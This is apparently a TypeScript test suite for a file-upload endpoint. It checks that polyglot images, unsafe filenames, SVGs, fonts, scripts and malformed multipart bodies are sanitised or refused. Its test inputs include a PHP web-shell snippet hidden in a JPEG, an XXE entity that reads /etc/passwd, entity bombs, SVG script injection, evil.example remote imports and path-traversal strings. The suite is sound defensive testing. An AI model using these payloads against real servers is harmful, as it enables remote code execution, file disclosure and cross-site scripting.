import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import sharp from 'sharp';
import { withServer } from '@candour/testing/server';
import { alpha, beta, type UserName } from '@candour/testing/world';
import { gif, gifOfFrames, jpeg, png, pngOfSize, svg, ttf } from './files.fixture.ts';

const server = withServer();
const boundary = 'a-line-between-parts';
const type = `multipart/form-data; boundary=${boundary}`;

type Sent = { name?: string; content: Buffer | string; brandId?: number | undefined; user?: UserName };

const part = (head: string, content: Buffer | string): Buffer =>
  Buffer.concat([Buffer.from(`--${boundary}\r\n${head}\r\n\r\n`), Buffer.from(content), Buffer.from('\r\n')]);
const filePart = (name: string, content: Buffer | string): Buffer =>
  part(`Content-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png`, content);
const textPart = (name: string, text: string): Buffer =>
  part(`Content-Disposition: form-data; name="${name}"`, text);
const whole = (...parts: Buffer[]): Buffer => Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]);

const sendBody = (payload: Buffer, user: UserName = 'A1', contentType = type) =>
  server().send({
    method: 'POST',
    url: '/api/Assets/UploadLargeFile',
    payload,
    headers: { ...server().bearer(user), 'content-type': contentType },
  });
const upload = ({ name = 'logo.png', content, brandId, user = 'A1' }: Sent) =>
  sendBody(
    whole(filePart(name, content), ...(brandId === undefined ? [] : [textPart('brandId', String(brandId))])),
    user,
  );
const load = async (url: string, headers: Record<string, string> = {}) => {
  const response = await server().app.inject({ url: new URL(url).pathname, headers });
  return { status: response.statusCode, headers: response.headers, bytes: response.rawPayload };
};
const messageOf = async (sent: Sent) => {
  const { status, body } = await upload(sent);
  return [status, body.fields?.file ?? body.errors?.[0]];
};
const setKey = (keyName: string, keyValue: string) =>
  server().call('U0', 'PUT', '/api/ConfigKeys', { keyName, keyValue });
const imageMessage = 'Please upload a valid image';
const resourceMessage = 'Please upload a valid resource file type (.png, .jpg, .jpeg, .gif, .svg, .ttf)';

describe('an uploaded image', () => {
  test('gets an address that any site may load for ever, in a sandbox', async () => {
    const { status, body } = await upload({ content: await png(), name: 'Our logo.png' });
    expect(status).toBe(200);
    expect(body).toMatchObject({
      fileName: 'Our logo.png',
      kind: 'image',
      width: 8,
      height: 8,
      brandId: alpha,
      usedBy: 0,
      uploadedBy: expect.any(String),
      logoUrl: body.url,
    });
    expect(body.url).toMatch(/^https:\/\/consent\.nordlicht\.example\/files\/image\.[\da-f]{32}\.png$/);
    const { headers, bytes } = await load(body.url);
    expect(headers).toMatchObject({
      'content-type': 'image/png',
      'x-content-type-options': 'nosniff',
      'cache-control': 'public, max-age=31536000, immutable',
      'cross-origin-resource-policy': 'cross-origin',
      'content-security-policy': expect.stringMatching(/default-src 'none'.*sandbox/),
    });
    expect(await sharp(bytes).metadata()).toMatchObject({ format: 'png', width: 8, height: 8 });
    const again = await upload({ content: await png(), name: 'copy.png' });
    expect(again.body.assetId).toBe(body.assetId);
  });

  test('is listed for its brand, and for no other', async () => {
    const { body } = await upload({ content: await png(9) });
    const idsFor = async (user: UserName) =>
      (await server().call(user, 'GET', '/api/Assets')).body.assets.map(
        ({ assetId }: { assetId: number }) => assetId,
      );
    expect(await idsFor('A1')).toContain(body.assetId);
    expect(await idsFor('U0')).toContain(body.assetId);
    expect(await idsFor('B1')).not.toContain(body.assetId);
    expect((await server().call('B1', 'DELETE', `/api/Assets/${body.assetId}`)).status).toBe(404);
    expect((await upload({ content: await png(), brandId: beta })).status).toBe(403);
    expect((await upload({ content: await png(), brandId: 0 })).status).toBe(403);
    expect((await upload({ content: await png(), user: 'A1r' })).status).toBe(403);
    expect((await upload({ content: await png(), user: 'A1B2' })).body.fields).toEqual({
      brandId: 'At least one brand is required',
    });
  });

  test('cannot be deleted while a brand shows it; afterwards its address no longer responds', async () => {
    const { body } = await upload({ content: await png(11) });
    const brand = (logoUrl: string) =>
      server().call('A1', 'PUT', '/api/Brands', { brand: { brandId: alpha, logoUrl } });
    expect((await brand(body.logoUrl)).status).toBe(200);
    const usages = [{ productArea: 1, id: alpha, name: 'Alpha' }];
    const refused = await server().call('A1', 'DELETE', `/api/Assets/${body.assetId}`);
    expect([refused.status, refused.body]).toEqual([
      409,
      { errors: ['logo.png is in use and cannot be deleted'], usages },
    ]);
    expect((await server().call('A1', 'GET', `/api/Assets/${body.assetId}/Usage`)).body).toEqual({ usages });
    await brand('');
    expect((await server().call('A1', 'DELETE', `/api/Assets/${body.assetId}`)).status).toBe(204);
    expect((await load(body.url)).status).toBe(404);
    const told = await server().query(
      `select action, entity_name from audit_log where product_area = 30 and entity_id = '${body.assetId}' order by audit_id`,
    );
    expect(told.map(({ action }) => action)).toEqual(['Create', 'Delete']);
  });

  test('stays for one brand when another deletes the same content', async () => {
    const content = await png(12);
    const mine = await upload({ content });
    const theirs = await upload({ content, user: 'B1' });
    expect(theirs.body.url).toBe(mine.body.url);
    await server().call('B1', 'DELETE', `/api/Assets/${theirs.body.assetId}`);
    expect((await load(mine.body.url)).status).toBe(200);
  });
});

describe('UPL-02 polyglots', () => {
  test('UPL-02 anything hidden after, in or next to the pixels is removed', async () => {
    const hidden = Buffer.from('<script>alert(1)</script>/*');
    const tailed = [await png(), await gif(), await jpeg()].map((one) => Buffer.concat([one, hidden]));
    const commented = await jpeg();
    const comment = Buffer.from('<?php system($_GET[1]); ?>');
    const marker = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
    tailed.push(Buffer.concat([commented.subarray(0, 2), marker, comment, commented.subarray(2)]));
    const gifScript = Buffer.from(await gif());
    gifScript.write('/*', 6, 'latin1');
    tailed.push(Buffer.concat([gifScript, Buffer.from('*/=1;alert(1)')]));
    for (const content of tailed) {
      const { status, body } = await upload({ content, name: 'a.js' });
      if (status === 400) continue;
      const { bytes, headers } = await load(body.url);
      expect(headers['content-type']).toMatch(/^image\//);
      expect(bytes.toString('latin1')).not.toMatch(/script|php|alert/);
    }
    const { body } = await upload({ content: await jpeg(), name: 'photo.jpg' });
    const { bytes } = await load(body.url);
    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    expect((await sharp(await jpeg()).metadata()).exif).toBeDefined();
  });

  test('UPL-02 the content decides what a file is, not its name', async () => {
    expect((await upload({ content: await gif(), name: 'x.png' })).body.url).toMatch(/\.gif$/);
    expect(await messageOf({ content: 'hello', name: 'x.png' })).toEqual([400, imageMessage]);
    expect(await messageOf({ content: '<html><script>1</script>', name: 'x.html' })).toEqual([
      400,
      resourceMessage,
    ]);
    expect(await messageOf({ content: Buffer.from('MZ\x90\0'), name: 'x.ttf' })).toEqual([
      400,
      resourceMessage,
    ]);
    expect(await messageOf({ content: (await png()).subarray(0, 40) })).toEqual([400, imageMessage]);
    expect(await messageOf({ content: '' })).toEqual([400, imageMessage]);
  });
});

test('UPL-03 a name is a label and nothing else', async () => {
  const names: [string, string][] = [
    ['../../app.js', 'app.js'],
    ['a\\..\\b.png', 'b.png'],
    ['CON', 'CON'],
    ['.htaccess', '.htaccess'],
    ['photo\u202egnp.exe', 'photognp.exe'],
    ['x'.repeat(5000), 'x'.repeat(150)],
    ['%2e%2e%2fetc', '%2e%2e%2fetc'],
  ];
  for (const [index, [name, label]] of names.entries()) {
    const { status, body } = await upload({ content: await png(20 + index), name });
    expect([status, body.fileName]).toEqual([200, label]);
    expect(body.url).toMatch(/\/files\/image\.[\da-f]{32}\.png$/);
  }
});

test('UPL-05 images that would fill the memory are refused by their header', async () => {
  for (const content of [pngOfSize(20_000, 20_000), gifOfFrames(10_000)]) {
    const started = performance.now();
    expect((await upload({ content, name: 'a.png' })).status).toBe(400);
    expect(performance.now() - started).toBeLessThan(15_000);
  }
  expect((await upload({ content: gifOfFrames(20) })).status).toBe(200);
});

describe('UPL-06 vector images', () => {
  const kept = async (content: string) => {
    const { body } = await upload({ content, name: 'a.svg' });
    return body.url === undefined ? body.fields.file : (await load(body.url)).bytes.toString();
  };

  test.for([
    [
      'an entity bomb',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    ],
    [
      'an entity of another file',
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
    ],
    [
      'nested use',
      svg(
        `<g id="a"><rect/></g>${'bcdefgh'
          .split('')
          .map(
            (id, at) => `<g id="${id}"><use href="#${'abcdefgh'[at]}"/><use href="#${'abcdefgh'[at]}"/></g>`,
          )
          .join('')}<use href="#h"/>`,
      ),
    ],
    ['a path of 5 MB', svg(`<path d="${'M0 0L1 1'.repeat(620_000)}"/>`)],
    ['elements without end', svg('<g>'.repeat(50_000))],
    ['a picture that is none', '<svg'],
  ])('UPL-06 %s is refused at once', async ([, content]) => {
    const started = performance.now();
    const { status } = await upload({ content: content ?? '', name: 'a.svg' });
    expect(status).toBe(400);
    // Includes the network round trip of the test.
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  test('XSS-01 a vector image keeps its shapes and loses active content', async () => {
    const hostile = svg(
      '<script>alert(1)</script><g onclick="alert(1)" id="a" fill="red"><path d="M0 0h5"/></g>' +
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>' +
        '<a href="javascript:alert(1)"><text>x</text></a><image href="https://evil.example/x.png"/>' +
        '<use xlink:href="https://evil.example/x.svg#a"/><use href="#a" x="5"/>' +
        '<set attributeName="onload" to="alert(1)"/><rect style="fill:url(https://evil.example)" width="5"/>' +
        '<style>@import "https://evil.example/x.css";</style><style>.a{fill:#fff}</style><text>1 &lt; 2</text>',
      'onload="alert(1)"',
    );
    const found = await kept(hostile);
    expect(found).not.toMatch(/script|alert|evil|foreign|<a |onload|onclick|image|import/);
    for (const part of [
      '<path d="M0 0h5">',
      'fill="red"',
      '<use href="#a" x="5">',
      '.a{fill:#fff}',
      '1 &#60; 2',
      'width="5"',
    ]) {
      expect(found).toContain(part);
    }
    const { headers } = await load((await upload({ content: hostile, name: 'a.svg' })).body.url);
    expect(headers['content-type']).toBe('image/svg+xml');
    expect((await sharp(Buffer.from(found)).metadata()).format).toBe('svg');
  });
});

test('UPL-08 fonts are checked by their structure', async () => {
  const good = await upload({ content: ttf(), name: 'a.ttf' });
  expect(good.body).toMatchObject({ kind: 'font', url: expect.stringMatching(/\.ttf$/) });
  expect((await load(good.body.url)).headers['content-type']).toBe('font/ttf');
  const tailed = await upload({ content: Buffer.concat([ttf(), Buffer.from('<script>')]), name: 'a.ttf' });
  expect(tailed.body.url).toBe(good.body.url);
  const spoilt = [
    ttf((font) => font.writeUInt32BE(2 ** 31, 12 + 12)),
    ttf((font) => font.writeUInt32BE(2 ** 31, 12 + 8)),
    ttf((font) => font.writeUInt16BE(60_000, 4)),
    ttf((font) => font.write('abcd', 12, 'latin1')),
    ttf().subarray(0, 40),
    Buffer.from('wOF2'.padEnd(200, '\xff'), 'latin1'),
  ];
  for (const content of spoilt) {
    expect(await messageOf({ content, name: 'a.ttf' })).toEqual([400, resourceMessage]);
  }
});

test('UPL-09 scripts are parsed and never run, and are not for our own pages', async () => {
  const code =
    'globalThis.polluted = 1; import("https://evil.example/x.js");\n//# sourceMappingURL=https://evil.example/x.map';
  const { body } = await upload({ content: code, name: 'a.js', user: 'A1' });
  expect(body.kind).toBe('script');
  expect('polluted' in globalThis).toBe(false);
  const { bytes, headers } = await load(body.url);
  expect(bytes.toString()).not.toContain('sourceMappingURL');
  expect(headers['content-type']).toBe('text/javascript; charset=utf-8');
  expect((await load(body.url, { 'sec-fetch-site': 'same-origin' })).status).toBe(404);
  expect((await load(body.url, { 'sec-fetch-site': 'cross-site' })).status).toBe(200);
  for (const broken of ['if (', '<html></html>', 'a\0b', `"${'x'.repeat(5 * 1024 * 1024)}"`]) {
    expect((await upload({ content: broken, name: 'a.js' })).status).toBe(400);
  }
  expect(await messageOf({ content: 'if (', name: 'a.js' })).toEqual([
    400,
    'Please upload a valid script file',
  ]);
  expect(await messageOf({ content: 'a { color }', name: 'a.css' })).toEqual([
    400,
    'Please upload a valid CSS file',
  ]);
  expect((await upload({ content: 'a { color: red }', name: 'a.css' })).body.kind).toBe('css');
  await server().query(
    "update admin_user set permission_ids = '{27}' where email_address = 'a1r@nordlicht.example'",
  );
  expect((await upload({ content: 'let a = 1', name: 'b.js', user: 'A1r' })).status).toBe(403);
  expect((await upload({ content: await png(), user: 'A1r' })).status).toBe(200);
});

test('UPL-11 a brand has a limit of files', async () => {
  const count = (await server().query(`select count(*)::int as n from asset where brand_id = ${beta}`))[0]?.[
    'n'
  ];
  await setKey('AssetMaxFiles', String(Number(count) + 2));
  const statuses = [];
  for (let size = 40; size < 44; size += 1) {
    statuses.push((await upload({ content: await png(size), user: 'B1' })).status);
  }
  expect(statuses).toEqual([200, 200, 413, 413]);
  await setKey('AssetMaxFiles', '500');
  await setKey('AssetQuotaMb', '0');
  server().platform.configuration.expire();
  expect((await upload({ content: await png(45), user: 'B1' })).status).toBe(413);
  await setKey('AssetQuotaMb', '100');
  await setKey('AssetMaxFileSizeMb', '1');
  expect(await messageOf({ content: Buffer.alloc(1024 * 1024 + 1) })).toEqual([
    400,
    'The file must be smaller than 1 MB',
  ]);
  await setKey('AssetMaxFileSizeMb', '5');
});

test('UPL-12 malformed uploads are refused, and the server keeps running', async () => {
  const file = filePart('a.png', await png());
  const many = Array.from({ length: 10_000 }, (_, at) => textPart(`p${at}`, 'x'));
  const inner = whole(filePart('b.png', 'x')).toString('latin1');
  const bodies: [Buffer, string?][] = [
    [whole(...many)],
    [whole(file, file)],
    [whole(file, textPart('brandId', '1'), textPart('brandId', '2'))],
    [whole(file, textPart('__proto__', '1'))],
    [whole(file, textPart('isAdmin', '1'))],
    [file],
    [Buffer.from('')],
    [Buffer.from('nothing of the kind')],
    [whole(file), 'multipart/form-data'],
    [whole(file), `multipart/form-data; boundary=${'x'.repeat(10_000)}`],
    [
      whole(
        part(
          'Content-Disposition: form-data; name="file"\r\nContent-Type: multipart/mixed; boundary=z',
          inner,
        ),
      ),
    ],
    [whole(part('Content-Disposition: form-data; name="file"; filename*=%ZZ\'\'%ZZ', 'x'))],
    [whole(part('Content-Disposition: form-data', 'x'))],
    [whole(textPart('file', 'x'))],
  ];
  for (const [body, contentType = type] of bodies) {
    const { status } = await sendBody(body, 'A1', contentType);
    expect([body.toString('latin1', 0, 80), status]).toEqual([body.toString('latin1', 0, 80), 400]);
  }
  expect((await sendBody(Buffer.alloc(27 * 1024 * 1024))).status).toBe(413);
  const elsewhere = await server().send({
    method: 'POST',
    url: '/api/Themes',
    payload: whole(file),
    headers: { ...server().bearer('A1'), 'content-type': type },
  });
  expect([404, 415]).toContain(elsewhere.status);
  expect((await upload({ content: await png() })).status).toBe(200);
});

test('UPL-14 a full disk leaves nothing behind', async () => {
  const { artefacts, settings } = server().platform;
  const { put } = artefacts;
  artefacts.put = () => Promise.reject(Object.assign(new Error('no space'), { code: 'ENOSPC' }));
  const rows = () => server().query('select count(*)::int as n from asset');
  const files = () => readdirSync(join(settings.artefactFolder, 'objects/files')).length;
  const before = [await rows(), files()];
  // The helper of the other tests treats every server error as a bug.
  const { statusCode: status, headers } = await server().app.inject({
    method: 'POST',
    url: '/api/Assets/UploadLargeFile',
    payload: whole(filePart('a.png', await png(50))),
    headers: { ...server().bearer('A1'), 'content-type': type },
  });
  artefacts.put = put;
  expect([status, headers['retry-after']]).toEqual([503, '5']);
  expect([await rows(), files()]).toEqual(before);
  expect((await upload({ content: await png(50) })).status).toBe(200);
});

test('INJ-16 addresses of files lead nowhere else', async () => {
  for (const name of [
    '..%2f..%2fetc%2fpasswd',
    '%00',
    '..%5c..%5cx',
    '%c0%af',
    'x'.repeat(299),
    'image.png',
  ]) {
    const { statusCode } = await server().app.inject({ url: `/files/${name}` });
    expect([400, 404, 414]).toContain(statusCode);
  }
});
